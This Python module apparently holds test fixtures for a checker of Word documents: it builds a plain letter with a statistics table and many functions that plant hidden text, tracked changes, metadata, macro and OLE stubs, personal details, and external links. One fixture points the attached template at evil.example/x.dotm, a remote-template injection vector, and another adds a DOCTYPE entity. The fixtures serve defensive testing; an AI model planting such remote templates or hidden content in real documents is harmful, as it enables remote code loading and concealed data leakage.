"""A plain letter made by hand, and ways to spoil it: python-docx, and raw edits of the zip."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
from docx.oxml import OxmlElement
from docx.shared import Pt, RGBColor
from poison import CANARY

Spoil = Callable[[bytes], bytes]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
DOCUMENT, STYLES, CORE, TYPES = (
    *("word/document.xml", "word/styles.xml", "docProps/core.xml"),
    "[Content_Types].xml",
)
RELS, DOCUMENT_RELS = "_rels/.rels", "word/_rels/document.xml.rels"
CELL = (
    '<w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr>'
    "<w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
)
LETTER: dict[str, str] = {
    TYPES: f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{WORD_TYPE}.document.main+xml"/>'
    f'<Override PartName="/word/styles.xml" ContentType="{WORD_TYPE}.styles+xml"/>'
    '<Override PartName="/docProps/core.xml" '
    'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
    RELS: f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{OFFICE}/relationships/officeDocument" '
    'Target="word/document.xml"/>'
    f'<Relationship Id="rId2" Type="{PACKAGE}/relationships/metadata/core-properties" '
    'Target="docProps/core.xml"/></Relationships>',
    DOCUMENT_RELS: f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{OFFICE}/relationships/styles" Target="styles.xml"/>'
    "</Relationships>",
    CORE: f'{HEAD}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Answer to a request</dc:title>'
    "<dc:language>en-GB</dc:language></cp:coreProperties>",
    STYLES: f'{HEAD}<w:styles xmlns:w="{W}"><w:docDefaults><w:rPrDefault><w:rPr>'
    '<w:rFonts w:ascii="Arial" w:hAnsi="Arial"/><w:sz w:val="24"/><w:lang w:val="en-GB"/></w:rPr>'
    '</w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Normal">'
    '<w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="Heading1">'
    '<w:name w:val="heading 1"/><w:basedOn w:val="Normal"/><w:pPr><w:keepNext/>'
    '<w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:sz w:val="32"/></w:rPr></w:style></w:styles>',
    DOCUMENT: f'{HEAD}<w:document xmlns:w="{W}"><w:body><w:p><w:pPr><w:pStyle w:val="Heading1"/>'
    "</w:pPr><w:r><w:t>Answer to a request</w:t></w:r></w:p>"
    "<w:p><w:r><w:t>We hold the information that you asked for.</w:t></w:r></w:p>"
    '<w:tbl><w:tblPr><w:tblW w:w="6000" w:type="dxa"/></w:tblPr><w:tblGrid><w:gridCol w:w="3000"/>'
    '<w:gridCol w:w="3000"/></w:tblGrid><w:tr><w:trPr><w:tblHeader/></w:trPr>'
    f"{CELL.format('Year')}{CELL.format('Allegations')}</w:tr>"
    f"<w:tr>{CELL.format('2024')}{CELL.format('128')}</w:tr></w:tbl>"
    '<w:p/><w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" '
    'w:bottom="1440" w:left="1440" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr>'
    "</w:body></w:document>",
}


def packed(parts: dict[str, bytes]) -> bytes:
    """Parts as a zip that tells nothing of when or by what it was made."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return stream.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def letter() -> bytes:
    return packed({name: text.encode() for name, text in LETTER.items()})


def swap(part: str, old: str, new: str) -> Spoil:
    """Replace the first `old` in a part, which must hold it."""

    def edit(data: bytes) -> bytes:
        parts = unpacked(data)
        text = parts[part].decode()
        assert old in text, f"{part} holds no {old}"
        return packed({**parts, part: text.replace(old, new, 1).encode()})

    return edit


def more(part: str, content: bytes, kind: str = "") -> Spoil:
    def edit(data: bytes) -> bytes:
        return packed({**unpacked(data), part: content})

    return edit


def with_docx(change: Callable[[docx.document.Document], None]) -> Spoil:
    """Opened, changed and saved by python-docx; its zip is written anew, to leave its change."""

    def edit(data: bytes) -> bytes:
        document = docx.Document(io.BytesIO(data))
        change(document)
        stream = io.BytesIO()
        document.save(stream)
        return packed(unpacked(stream.getvalue()))

    return edit


def _run(document: docx.document.Document) -> docx.text.run.Run:
    return document.paragraphs[1].runs[0]


def _author(document: docx.document.Document) -> None:
    document.core_properties.author = CANARY


def _keywords(document: docx.document.Document) -> None:
    document.core_properties.keywords = CANARY


def _comment(document: docx.document.Document) -> None:
    document.add_comment(_run(document), text=CANARY, author=CANARY, initials="C")


def _hidden(document: docx.document.Document) -> None:
    _run(document).font.hidden = True


def _white(document: docx.document.Document) -> None:
    _run(document).font.color.rgb = RGBColor(255, 255, 255)


def _tiny(document: docx.document.Document) -> None:
    _run(document).font.size = Pt(1)


def _header(document: docx.document.Document) -> None:
    document.sections[0].header.paragraphs[0].text = CANARY


def _deleted(document: docx.document.Document) -> None:
    deleted = OxmlElement("w:del")
    deleted.append(_run(document)._r)
    document.paragraphs[1]._p.append(deleted)


def _merged(document: docx.document.Document) -> None:
    table = document.tables[0]
    table.cell(0, 0).merge(table.cell(0, 1))


def _address(document: docx.document.Document) -> None:
    document.paragraphs[1].add_run(" jane@police.example")


def _cut_in_runs(document: docx.document.Document) -> None:
    for piece in (" 0", "20 7946", " 0958"):
        document.paragraphs[1].add_run(piece)


def _field(document: docx.document.Document) -> None:
    field = OxmlElement("w:fldSimple")
    document.paragraphs[1]._p.append(field)


TEXT = "<w:t>We hold the information that you asked for.</w:t>"
IN_RUN = "<w:r><w:t>We hold"
POISONS_DOCX: dict[str, Spoil] = {
    # made by another library
    "an author by python-docx": with_docx(_author),
    "keywords by python-docx": with_docx(_keywords),
    "a comment by python-docx": with_docx(_comment),
    "hidden text by python-docx": with_docx(_hidden),
    "white text by python-docx": with_docx(_white),
    "tiny text by python-docx": with_docx(_tiny),
    "a header by python-docx": with_docx(_header),
    "deleted text by python-docx": with_docx(_deleted),
    "a merged cell by python-docx": with_docx(_merged),
    "an address by python-docx": with_docx(_address),
    "a number cut into runs by python-docx": with_docx(_cut_in_runs),
    "a field by python-docx": with_docx(_field),
    # made by hand, everything else as it was
    "inserted text": swap(DOCUMENT, IN_RUN, f'<w:ins w:author="{CANARY}"/>{IN_RUN}'),
    "deleted text": swap(DOCUMENT, TEXT, f"{TEXT}<w:delText>{CANARY}</w:delText>"),
    "moved text": swap(DOCUMENT, IN_RUN, f"<w:moveFrom/>{IN_RUN}"),
    "a changed format": swap(DOCUMENT, IN_RUN, f"<w:rPrChange/>{IN_RUN}"),
    "marks of editing": swap(DOCUMENT, "<w:p><w:r>", '<w:p w:rsidR="00A77B3E"><w:r>'),
    "hidden text": swap(DOCUMENT, IN_RUN, "<w:r><w:rPr><w:vanish/></w:rPr><w:t>We hold"),
    "hidden text by a style": swap(STYLES, "<w:rPr><w:b/>", "<w:rPr><w:vanish/><w:b/>"),
    "white text by a style": swap(
        STYLES, "<w:rPr><w:b/>", '<w:rPr><w:color w:val="FFFFFF"/><w:b/>'
    ),
    "pale text": swap(
        DOCUMENT, IN_RUN, '<w:r><w:rPr><w:color w:val="F0F0F0"/></w:rPr><w:t>We hold'
    ),
    "tiny text by a style": swap(STYLES, '<w:sz w:val="24"/>', '<w:sz w:val="2"/>'),
    "text behind a fill": swap(
        DOCUMENT, IN_RUN, '<w:r><w:rPr><w:shd w:fill="000000"/></w:rPr><w:t>We hold'
    ),
    "a comment mark": swap(DOCUMENT, IN_RUN, f'<w:commentRangeStart w:id="1"/>{IN_RUN}'),
    "comments": more("word/comments.xml", CANARY.encode()),
    "a bookmark": swap(DOCUMENT, IN_RUN, f'<w:bookmarkStart w:id="1" w:name="{CANARY}"/>{IN_RUN}'),
    "a field": swap(DOCUMENT, TEXT, f"<w:instrText>INCLUDETEXT x</w:instrText>{TEXT}"),
    "a link": swap(DOCUMENT, IN_RUN, f'<w:hyperlink w:anchor="x"/>{IN_RUN}'),
    "a drawing": swap(DOCUMENT, TEXT, f"<w:drawing/>{TEXT}"),
    "an object": swap(DOCUMENT, TEXT, f"<w:object/>{TEXT}"),
    "a picture of old": swap(DOCUMENT, TEXT, f"<w:pict/>{TEXT}"),
    "a content control": swap(DOCUMENT, "<w:p><w:r>", "<w:sdt/><w:p><w:r>"),
    "a chunk of another kind": swap(DOCUMENT, "<w:p><w:r>", "<w:altChunk/><w:p><w:r>"),
    "a merged cell": swap(
        DOCUMENT, '<w:tcW w:w="3000"', '<w:gridSpan w:val="2"/><w:tcW w:w="3000"'
    ),
    "a cell of no width": swap(DOCUMENT, '<w:tcW w:w="3000"', '<w:tcW w:w="0"'),
    "a frame": swap(DOCUMENT, "<w:p><w:r>", '<w:p><w:pPr><w:framePr w:w="1"/></w:pPr><w:r>'),
    "a paragraph moved away": swap(
        DOCUMENT, "<w:p><w:r>", '<w:p><w:pPr><w:ind w:left="99999"/></w:pPr><w:r>'
    ),
    "a tiny page": swap(DOCUMENT, 'w:w="11906"', 'w:w="10"'),
    "an author": swap(CORE, "<dc:language>", f"<dc:creator>{CANARY}</dc:creator><dc:language>"),
    "who changed it last": swap(
        CORE, "<dc:language>", f"<cp:lastModifiedBy>{CANARY}</cp:lastModifiedBy><dc:language>"
    ),
    "a subject": swap(CORE, "<dc:language>", f"<dc:subject>{CANARY}</dc:subject><dc:language>"),
    "custom properties": more("docProps/custom.xml", CANARY.encode()),
    "a thumbnail": more("docProps/thumbnail.jpeg", b"\xff\xd8"),
    "custom XML": more("customXml/item1.xml", CANARY.encode()),
    "a macro": more("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "an embedded workbook": more("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
    "an embedded font": more("word/fonts/font1.odttf", b"x"),
    "a picture": more("word/media/image1.png", b"\x89PNG"),
    "footnotes": more("word/footnotes.xml", CANARY.encode()),
    "building blocks": more("word/glossary/document.xml", CANARY.encode()),
    "people": more("word/people.xml", CANARY.encode()),
    "a part that nothing refers to": more(
        "word/numbering.xml", f'{HEAD}<w:numbering xmlns:w="{W}"/>'.encode()
    ),
    "a link outside": swap(
        DOCUMENT_RELS,
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{OFFICE}/relationships/hyperlink" '
        'Target="https://evil.example/" TargetMode="External"/></Relationships>',
    ),
    "a template from outside": swap(
        DOCUMENT_RELS,
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{OFFICE}/relationships/attachedTemplate" '
        'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
    ),
    "a macro content type": swap(
        TYPES, f"{WORD_TYPE}.document.main", "application/vnd.ms-word.document.macroEnabled.main"
    ),
    "a document type": swap(DOCUMENT, HEAD, f'{HEAD}<!DOCTYPE x [<!ENTITY y "{CANARY}">]>'),
    "a comment of XML": swap(DOCUMENT, "<w:body>", f"<!-- {CANARY} --><w:body>"),
    "text between elements": swap(DOCUMENT, "<w:body>", f"<w:body>{CANARY}"),
    "another namespace": swap(DOCUMENT, "<w:body>", f'<x:y xmlns:x="urn:x">{CANARY}</x:y><w:body>'),
    "a name with a title": swap(DOCUMENT, "you asked for", "PC Smith asked for"),
    "a number of a person": swap(DOCUMENT, "you asked for", "AB 12345 asked for"),
    "no document": lambda data: packed(
        {name: part for name, part in unpacked(data).items() if name != DOCUMENT}
    ),
    "dates in the zip": lambda data: _dated(data),
    "bytes behind the end": lambda data: data + CANARY.encode(),
    "cut off": lambda data: data[:-30],
    "another kind of file": lambda data: b"PK" + CANARY.encode(),
}


def _dated(data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, part in unpacked(data).items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 5, 4, 23, 11, 0)), part)
    return stream.getvalue()
